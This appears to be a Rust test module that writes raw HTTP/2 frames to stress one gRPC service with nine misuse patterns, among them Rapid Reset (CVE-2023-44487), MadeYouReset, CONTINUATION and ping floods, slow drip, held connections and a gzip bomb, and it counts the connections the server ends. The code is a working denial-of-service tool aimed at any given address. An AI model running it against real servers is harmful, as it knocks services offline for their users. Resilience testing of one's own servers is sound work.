//! Kinds of misuse of the transport, written as bytes: no library of a client would send them.

use std::ops::AddAssign;
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

/// A kind of misuse.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Misuse {
    /// Calls that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Calls that the server is made to reset: a window grows by nothing (CVE-2025-8671).
    MadeYouReset,
    /// Headers that never end.
    Continuation,
    /// Settings, over and over.
    Settings,
    /// Pings whose answers nobody reads.
    Pings,
    /// Messages that are announced and do not come.
    Announced,
    /// A message, byte by byte.
    Drops,
    /// A byte that says compressed, and a bomb behind it.
    Bomb,
    /// Connections that say nothing.
    Silence,
}

/// What was sent, in bursts, and how many connections the server ended.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub struct Harm {
    /// Bursts.
    pub sent: usize,
    /// Connections.
    pub ended: usize,
}

impl AddAssign for Harm {
    fn add_assign(&mut self, other: Self) {
        self.sent += other.sent;
        self.ended += other.ended;
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// Whoever takes no bytes for so long has been left standing.
const STUCK: Duration = Duration::from_secs(1);

impl Misuse {
    /// Each of them.
    pub const ALL: &'static [Self] = &[
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Settings,
        Self::Pings,
        Self::Announced,
        Self::Drops,
        Self::Bomb,
        Self::Silence,
    ];

    /// What its figures are called.
    pub const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "calls reset at once, 50 a burst",
            Self::MadeYouReset => "calls that the server has to reset, 50 a burst",
            Self::Continuation => "headers without end, 16 KiB a burst",
            Self::Settings => "settings, 100 a burst",
            Self::Pings => "pings, 100 a burst, answers not read",
            Self::Announced => "messages announced and not sent, 50 a burst",
            Self::Drops => "messages sent byte by byte",
            Self::Bomb => "compressed messages, 50 a burst",
            Self::Silence => "silent connections",
        }
    }

    /// The n-th burst of a connection; none when it has nothing more to say.
    fn burst(self, n: u32) -> Option<Vec<u8>> {
        let streams = |count: u32| (0..count).map(move |at| 2 * (n * count + at) + 1);
        let call = |id: u32| frame(HEADERS, END_HEADERS, id, &headers());
        Some(match self {
            Self::RapidReset => {
                streams(50).flat_map(|id| [call(id), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()).collect()
            }
            Self::MadeYouReset => {
                streams(50).flat_map(|id| [call(id), frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat()).collect()
            }
            Self::Continuation if n == 0 => frame(HEADERS, 0, 1, &headers()),
            Self::Continuation => frame(CONTINUATION, 0, 1, &field(&format!("x-{n}"), &"a".repeat(100)).repeat(145)),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(100),
            Self::Pings => frame(PING, 0, 0, &[7; 8]).repeat(100),
            Self::Announced => {
                let head = [0, 0, 3, 0xff, 0xff];
                streams(50).flat_map(|id| [call(id), frame(DATA, 0, id, &head)].concat()).collect()
            }
            Self::Drops if n == 0 => [call(1), frame(DATA, 0, 1, &[0, 0, 0, 0xff, 0xff])].concat(),
            Self::Drops => frame(DATA, 0, 1, b"a"),
            Self::Bomb => {
                let block = [headers(), field("grpc-encoding", "gzip")].concat();
                let message = [[1, 0, 0, 0x03, 0xe8].as_slice(), &[0x1f, 0x8b, 8, 0], &[0; 996]].concat();
                streams(50)
                    .flat_map(|id| [frame(HEADERS, END_HEADERS, id, &block), frame(DATA, 1, id, &message)].concat())
                    .collect()
            }
            Self::Silence => return None,
        })
    }

    /// Between two bursts.
    const fn pause(self) -> Duration {
        match self {
            Self::Drops => Duration::from_millis(20),
            _ => Duration::ZERO,
        }
    }
}

/// Does it until then, over one connection after the other.
pub async fn misuse(kind: Misuse, address: String, until: Instant) -> Harm {
    let mut harm = Harm::default();
    let mut held = Vec::new();
    while Instant::now() < until {
        let Ok(Ok(mut stream)) = timeout(STUCK, TcpStream::connect(&address)).await else { continue };
        if kind == Misuse::Silence {
            harm.sent += 1;
            held.push(stream);
            sleep(Duration::from_millis(50)).await;
            continue;
        }
        let greeting = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(SETTINGS, 0, 0, &[])].concat();
        if stream.write_all(&greeting).await.is_err() {
            continue;
        }
        let (mut answers, mut calls) = stream.into_split();
        let reader = (kind != Misuse::Pings).then(|| {
            tokio::spawn(async move {
                let mut sink = vec![0; 64 * 1_024];
                while answers.read(&mut sink).await.is_ok_and(|read| read > 0) {}
            })
        });
        for n in 0.. {
            let Some(burst) = kind.burst(n).filter(|_| Instant::now() < until) else { break };
            match timeout(STUCK, calls.write_all(&burst)).await {
                Ok(Ok(())) => harm.sent += 1,
                Ok(Err(_)) => {
                    harm.ended += 1;
                    break;
                }
                // Not read any more: it has what it wants, a place.
                Err(_) if Instant::now() >= until => break,
                Err(_) => {}
            }
            sleep(kind.pause()).await;
        }
        if let Some(reader) = reader {
            reader.abort();
        }
    }
    harm
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header that is in no table.
fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).expect("a field is short")], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

/// The headers of a call: POST, http, the path, the authority, and what gRPC asks for.
fn headers() -> Vec<u8> {
    let path = b"/sne.v1.RegistrationService/GetDemand";
    let path = [&[0x04, u8::try_from(path.len()).expect("the path is short")], path.as_slice()].concat();
    let authority = [&[0x01, 3], b"sne".as_slice()].concat();
    [vec![0x83, 0x86], path, authority, field("content-type", "application/grpc"), field("te", "trailers")].concat()
}
